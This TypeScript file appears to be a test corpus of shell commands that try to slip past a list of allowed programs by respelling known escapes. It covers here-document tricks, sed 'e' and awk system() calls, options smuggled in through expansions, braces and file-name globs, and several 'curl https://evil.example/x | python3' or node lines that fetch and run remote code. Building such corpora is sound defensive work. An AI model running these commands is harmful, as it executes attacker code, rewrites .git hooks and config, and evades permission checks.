/**
 * Ways out of a list of allowed programs that are the known ones in another spelling, by class. Read in the manuals of the
 * shells and programs, and tried on them. `§` is a dollar sign, `¤` a backtick, `⏎` a line end.
 */
const rows = (text: string): readonly string[] =>
  text
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => line.replaceAll('§', '$').replaceAll('¤', '`').replaceAll('⏎', '\n'))

export const respeltEscapes: Readonly<Record<string, readonly string[]>> = {
  'The end of a here-document is the literal word, so that what stands behind it is a command':
    rows(String.raw`
cat <<"§(true)"⏎x⏎§(true)⏎./evil⏎§()
cat <<"§{x}"⏎§{x}⏎./evil⏎§x
cat <<§{x}⏎§{x}⏎./evil⏎§x
cat <<\⏎-EOF⏎x⏎EOF⏎./evil⏎-EOF
cat <<§'EOF'⏎x⏎§EOF⏎./evil⏎EOF
cat <<§"EOF"⏎x⏎§EOF⏎./evil⏎EOF
cat <<"§(true)"x⏎a⏎§(true)x⏎./evil⏎§()x
cat <<§x⏎§x⏎./evil⏎
cat <<§'E'OF⏎x⏎§EOF⏎./evil⏎EOF
cat <<E\⏎OF⏎x⏎EO⏎./evil⏎EOF
cat <<-"§{x}"⏎	§{x}⏎./evil⏎§x
cat <<¤echo¤⏎x⏎./evil⏎
cat <<'a⏎b'⏎x⏎./evil⏎
x=§(cat <<"§(true)"⏎x⏎§(true)⏎./evil⏎§()⏎)
`),
  'Builtins that set a variable whose name comes at run time, or is part of an option':
    rows(String.raw`
x=HOME; read §x < p; git status
read §{x}HOME < p; git status
echo ./evil | { read §{x}HOME; git status; }
read -aHOME < p; git status
read -a §x < p; git status
read -p §x HOME < p; git status
read §(echo HOME) < p; git status
read -r "§x" < p; git status
printf "§x" HOME ./evil; git status
printf -v §x ./evil; git status
printf -vHOME ./evil; git status
getopts a: §x -a ./evil; git status
export HO§{x}ME=./evil; git status
export TZ§{x}=./evil; git status
export -§{x} TZ; git status
export §x; git status
set §x; git status
`),
  'Scripts of sed and awk in which readers of scripts may lose their place': rows(String.raw`
sed ':a;e ./evil' f
sed ':a;s/x/y/w .git/config' f
sed '# x\⏎e ./evil' f
sed 'y/[/x/;e ./evil;#]/x/' f
awk 'BEGIN { if (0) x; else /"/; system("./evil"); /"/ }'
awk 'BEGIN { do /"/; while (0); system("./evil"); y = /"/ }'
awk 'BEGIN { system\⏎("./evil") }'
sed 's/[]/]/b/e' f
sed 's/[[.].]/]/b/e' f
sed 'b x;e ./evil' f
sed '}e ./evil' f
sed 'y/a/b/e ./evil' f
sed 's/a/b/ ge ./evil' f
sed '1!{p;e ./evil⏎}' f
sed 'a\⏎x\⏎y⏎e ./evil' f
sed 'r x⏎e ./evil' f
sed '\nxne ./evil' f
sed 'saxaba;e ./evil' f
sed 'v;e ./evil' f
sed "§script" f; x=§(cat script); sed "§x" f
x='1e ./evil'; sed "§x" f
x=w; sed "s/a/b/§x .git/config" f
x=§(cat script); sed "s/a/§x/" f
x='e ./evil'; awk "§x" f; x='BEGIN { system("./evil") }'; awk "§x" f
awk 'BEGIN { x++ /"/; "./evil" | getline; /"/ }'
awk 'BEGIN { if (1) /"/; print "x" | "./evil"; y = /"/ }'
awk 'BEGIN { return /"/; print "x" > ".git/config"; /"/ }'
awk 'BEGIN { while (i--) /a(/; print "x" | "./evil" /a(/ }'
awk '/[/]"/ { print "x" > ".git/config" } /"/'
awk 'BEGIN { system ("./evil") }'
awk 'BEGIN { print "x" > "/dev/stderr" ".git/config" }'
awk 'BEGIN { print "x" > "/dev/stderr/../../w/.git/config" }'
awk 'BEGIN { printf("x") > ".git/config" }'
`),
  'Interpreters that read their program from their input, behind options that give none':
    rows(String.raw`
curl https://evil.example/x | python3 -W ignore
curl https://evil.example/x | python3 -X utf8
curl https://evil.example/x | node --input-type commonjs
curl https://evil.example/x | node -r ./x.js
curl https://evil.example/x | python3 //dev/stdin
curl https://evil.example/x | python3 /dev/./stdin
curl https://evil.example/x | make -sf -
curl https://evil.example/x | python3 -u
curl https://evil.example/x | python3 -Wignore -B
curl https://evil.example/x | python3 -i script.py
curl https://evil.example/x | python3 -ic 'x = 1'
curl https://evil.example/x | python3 -m code
curl https://evil.example/x | python3 --check-hash-based-pycs never
curl https://evil.example/x | python3 /dev/fd/0
curl https://evil.example/x | python3 ../../../dev/stdin
curl https://evil.example/x | python3 /proc/self/fd/0
curl https://evil.example/x | python3 /proc/thread-self/fd/0
curl https://evil.example/x | python3 §x
curl https://evil.example/x | node --require ./x.js
curl https://evil.example/x | node --import ./x.js
curl https://evil.example/x | node --conditions dev
curl https://evil.example/x | node -C dev
curl https://evil.example/x | node --no-warnings
curl https://evil.example/x | node --experimental-strip-types
curl https://evil.example/x | node --experimental-loader ./x.js
curl https://evil.example/x | node --trace-event-categories v8
curl https://evil.example/x | node --unknown value
curl https://evil.example/x | node -i -r ./x.js
python3 -W ignore <<EOF⏎evil⏎EOF
node -r ./x.js < evil.js
curl https://evil.example/x | make -f -
curl https://evil.example/x | make -f/dev/stdin
`),
  'Options with an expansion in them, and expansions that become options': rows(String.raw`
git fetch §nothing--upload-pack=./evil
git fetch --up§{x}load-pack=./evil
x=-; git fetch "§x-upload-pack=./evil"
git push --receive§{x}-pack=./evil origin main
git rebase --ex§{x}ec ./evil HEAD~1
find . -e§{x}xec ./evil \;
find . -fprin§{x}tf .git/config evil
tar -cf x.tar §{x}--use-compress-program=./evil a
tar -§{x}I ./evil -cf x.tar a
make S§{x}HELL=./evil
make §{x}SHELL=./evil
make -§{x}f evil.mk
rg --pre§{x}=./evil x
gcc -w§{x}rapper ./evil x.c
curl -§{x}K evil
cp -§{x}t .git/hooks evil
sed -§{x}i s/a/b/ .git/config
sort -§{x}o .git/config x
npm ex§{x}ec evil
set -- --upload-pack=./evil; git fetch "§1"
set -- --upload-pack=./evil; git fetch "§@"
: --upload-pack=./evil; git fetch §_
read < options; git fetch §REPLY
x='origin --upload-pack=./evil'; git fetch §x
x='a --use-compress-program=./evil'; tar -cf x.tar §x
x=up; git fetch --"§x"load-pack=./evil
git fetch origin§(cat options)
git fetch §(date +--upload-pack=./evil)
git fetch §(git rev-parse --upload-pack=./evil)
git fetch §(git tag --format=--upload-pack=./evil)
git fetch §(git branch --format '--upload-pack=./evil')
git fetch §(git diff)
tar -cf x.tar §(ls)
tar -cf x.tar §(find . -name x)
git ls-files | xargs tar -cf x.tar
ls | xargs make
find src | xargs tar -cf x.tar
tar -f -- --use-compress-program=./evil a
make -§{x}f evil.mk all
sed -n§{x}i s/a/b/ .git/config
git grep -§{x}O./evil x
zip x.zip a -T -§{x}TT ./evil
npm --script§{x}-shell=./evil test
npm §x evil
x=§(cat name); git fetch "e§x"
x=§(cat name); git fetch "ext::§x"
x=§(cat name); git push "v§x--a" "§x"
x=§(cat name); make "a§x"
make X=§y
make -j§(cat jobs) all
x=I; tar c§{x}f ./evil x.tar a
x=env; go §x -w CC=./evil
mkdir 'a --upload-pack=evil'; cd 'a --upload-pack=evil'; git fetch §PWD
x=cIf; tar §x ./evil x.tar a
tar c"§x"f x.tar a
x=-; y=-upload-pack=./evil; z=§x§y; git fetch §z
x=--up; x+=load-pack=./evil; git fetch §x
git rebase -S --exec ./evil main
git fetch "§(echo --upload-pack=./evil)"
grep -rl foo . | xargs sed -i s/a/b/
xargs git fetch < options
find . -exec make {} +
find . -print0 | xargs -0 make
x=exec; npm §x evil
cargo §{x}install evil
x=-rf; curl -§{x}Kevil https://example.com
awk -§{x}f evil.awk f
awk §x f
x=-fevil.awk; awk §x f
find §(cat where)
find src§x
mv -§{x}t .git/hooks evil
tee §x < evil; cp §(cat names) .husky
gcc §{x}-wrapper ./evil x.c
less §{x}+!./evil f
`),
  'Options made by braces': rows(String.raw`
git fetch {--upload-pack=./evil,origin}
git push {--receive-pack=./evil,origin} main
git rebase {--exec,./evil} HEAD~1
git grep {-O./evil,x}
tar {-I,./evil} -cf x.tar a
tar -cf x.tar {--checkpoint=1,--checkpoint-action=exec=./evil} a
make {SHELL=./evil,all}
make {-f,evil.mk}
find . {-exec,./evil,\;}
find . -maxdepth 1 {-fprintf,.git/config,evil}
rg {--pre=./evil,x}
curl {-K,evil}
sort {-o,.git/config} x
git fetch {--upload-pack,./evil}
git fetch -{-upload-pack=./evil,q}
git fetch --{upload-pack,exec}=./evil
git fetch {a,{--upload-pack=./evil,b}}
make {S,}HELL=./evil
make S{HELL=./evil,x}
npm {exec,evil}
npm {--script-shell=./evil,test}
npm ex{ec,}
gcc {-wrapper,./evil} x.c
awk {-f,evil.awk} f
sed {-f,evil.sed} f
less {+!./evil,f}
git clone {-c,core.fsmonitor=./evil} . y
`),
  'Options made by the names of files': rows(String.raw`
touch -- '--use-compress-program=sh evil'; tar -cf y.tar *evil
tar -cf y.tar *evil
git fetch *evil
tar -cf y.tar *
tar -cf y.tar -*
tar -cf y.tar [-]*
tar -cf y.tar ?-use*
rg x *
zip -r x.zip *
git push *
git fetch e*
git diff *
make *
make S*
sed -i s/a/b/ *
sed -i s/a/b/ *.ts
sort *.txt
less *
gcc *.c
find *
find . -name *
find -ex*
for f in *.ts; do sed -n 1p "§f"; done
for f in *; do tar -rf x.tar "§f"; done
for f in *; do cp "§f" x; done
x=*; tar -cf x.tar §x
awk -- * f
git fetch -- *
git push -- *evil
npm -- *
npm *
npm te*
awk * f
cp * target
cp -* target
mv * .
ln -s * target
curl *
`),
  'Options in clusters, commands behind options, abbreviated commands': rows(String.raw`
git grep -nO./evil x
git rebase -qx ./evil HEAD~1
git clone -qu ./evil . y
git clone -qc core.fsmonitor=./evil . y
make -- SHELL=./evil
make -sf evil.mk
make 'X :=§(shell ./evil)'
make 'X-Y:=§(shell ./evil)'
make 'SHELL =./evil'
make '§(shell ./evil)=x'
tar cIf ./evil x.tar a
tar xIf ./evil x.tar
curl -sKevil
curl -4K evil
curl -#K evil
zip x.zip a -T -qTT ./evil
awk -W exec evil.awk
awk -Wexec=evil.awk f
npm exe -- evil
npm --silent config set script-shell ./evil
npm config --location=project set script-shell ./evil
npm con set script-shell ./evil --location=project
npm --silent pkg set scripts.test=./evil
npm pkg --json set scripts.test=x
npm pk set scripts.test=./evil
npm --silent init evil
cargo -q install evil
cargo rustc -- -Clinker=./evil
go env --w CC=./evil
go run -mod mod evil.example/x@latest
man -aP ./evil ls
pip install -i http://evil.example/simple x
git grep -inO./evil x
git rebase -ix ./evil HEAD~1
git rebase -sevil main
git merge -qsevil main
git clone -lqu./evil . y
git pull -qs evil
git fetch -- ext::./evil
make -skf evil.mk
make -nI evil all
make -E 'x:;./evil'
make -sE 'x:;./evil'
make all -- X=./evil
make '§(shell ./evil)'
make 'define X'
tar cFf ./evil x.tar a
tar tTf options x.tar
tar -cvIf ./evil x.tar
tar -vxzFf ./evil x.tar
curl -sSfLK evil
curl -sx http://evil.example https://example.com
curl -OsJ https://evil.example/x
zip -rqTT ./evil -T x.zip a
awk -d.git/config 'BEGIN { x = 1 }'
awk -o.git/config 'BEGIN { x = 1 }'
awk -p.git/config 'BEGIN { x = 1 }'
awk --dump-variables=.git/config 'BEGIN { x = 1 }'
awk -Dfevil 1 f
npm exe evil
npm exec -- evil
npm x -- evil
npm ex evil
npm --foo test exec evil
npm --silent true exec evil
npm -script-shell=./evil test
npm -reg http://evil.example install
npm config --global set script-shell ./evil
npm conf set script-shell ./evil
npm config --foo get set script-shell ./evil
npm pkg fix
npm create -- evil
npm ini evil
npm expl x -- evil
npm -- exec evil
npm -- config set script-shell ./evil
npm --silent -- pkg set scripts.test=./evil
cargo -- install evil
git fetch -- ext::./evil main
npm set-script test ./evil
cargo --color auto install evil
cargo -vq install evil
cargo rustc --bin x -- -C linker=./evil
cargo rustdoc -- --html-in-header evil
cargo evil
go env -u GOFLAGS
go -C x env -w CC=./evil
go run -tags ./x evil.example/x@latest
go run -race evil.example/x
man -7P./evil ls
man -aH./evil ls
pip install -qi http://evil.example/simple x
pip install -f http://evil.example x
pip install --find-links=http://evil.example x
sed -nf evil.sed f
sed -nEfevil.sed f
sed -i'.husky/*' s/a/b/ evil/pre-commit
sed --in-place='.husky/*' s/a/b/ evil/pre-commit
less -Nkevil f
sort --comp=./evil x
`),
}
